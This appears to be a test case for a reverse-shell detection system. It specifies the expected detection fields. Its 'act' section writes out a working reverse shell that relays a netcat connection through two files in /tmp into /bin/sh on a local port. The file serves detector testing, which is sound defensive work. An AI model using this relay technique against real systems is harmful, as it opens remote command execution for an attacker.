# R33: a relay by two regular files
# stage: equipped
# within: 1500 ms
# expect: reverse_shell_detected
#   detection.reason: ~→ file /tmp/r33.c →
#   detection.confidence: medium
#   reverse_shell.process_list.length: 4
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4633
#   reverse_shell.process_list.3.process_id: $shell

#: prepare
. lib/peers.sh
commander 4633 3 id
: > /tmp/r33.c; : > /tmp/r33.o
#: act
. lib/peers.sh
act
(tail -f -s 0.1 /tmp/r33.o | nc.openbsd 127.0.0.1 4633 > /tmp/r33.c) < /dev/null > /dev/null 2>&1 &
(tail -f -s 0.1 /tmp/r33.c | /bin/sh >> /tmp/r33.o 2>&1) < /dev/null > /dev/null 2>&1 &
who shell /bin/sh
#: clean
pkill -f '^tail -f -s 0.1 /tmp/r33' || true
rm /tmp/r33.c /tmp/r33.o
